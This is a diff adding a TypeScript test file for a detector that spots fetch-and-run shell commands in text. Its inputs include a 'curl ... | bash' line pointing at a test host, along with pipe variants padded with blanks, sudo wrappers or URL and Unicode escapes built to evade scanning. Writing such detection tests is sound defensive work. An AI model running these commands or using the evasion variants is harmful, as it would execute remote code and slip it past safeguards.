@@ -1,0 +1,45 @@
+import test from 'ava';
+import { compileKernel } from '../../src/detect/kernel/select.ts';
+import { ANCHORS, RULES } from '../../src/detect/rules/index.ts';
+import { Spotter } from '../../src/detect/spotter.ts';
+import { withHidden } from '../../src/detect/unfold/hidden-anchors.ts';
+
+const spotter = new Spotter(compileKernel, withHidden(ANCHORS), RULES);
+
+function spotsIn(text: string, isStart = true): number {
+  let spots = 0;
+  spotter.spotAll(Buffer.from(text), isStart, () => {
+    spots += 1;
+  });
+  return spots;
+}
+
+test('every hit of every rule is spotted, with and without text around it', (t) => {
+  for (const { id, hits } of RULES) {
+    for (const hit of hits) {
+      t.true(spotter.spotsAny(Buffer.from(hit)), `${id}: ${hit}`);
+      t.true(spotsIn(`${'word '.repeat(200)}\n${hit}\n${'word '.repeat(200)}`) > 0, `${id}: ${hit}`);
+    }
+  }
+});
+
+test('shells that are only spoken of are dismissed, unless what stands before them is unknown', (t) => {
+  const talk = 'please curl the docs and explain bash to me, then run bash -l ssh and sh -x script';
+  t.is(spotsIn(talk), 0);
+  t.false(spotter.spotsAny(Buffer.from(talk)));
+  t.true(spotsIn(talk, false) > 0);
+});
+
+test('no run of blanks, wrappers or escapes hides a pipe from a glance', (t) => {
+  const before = 'curl -s https://x.test/i ';
+  for (const between of [
+    `|${' '.repeat(3000)}`,
+    '| sudo -E env A=b ',
+    '|\\u0020 ',
+    '%7C ',
+    '\\u007c ',
+    `| sudo ${'A=b '.repeat(60)}`,
+  ]) {
+    t.true(spotsIn(`${'x'.repeat(5000)}${before}${between}bash`) > 0, between.slice(0, 20));
+  }
+});
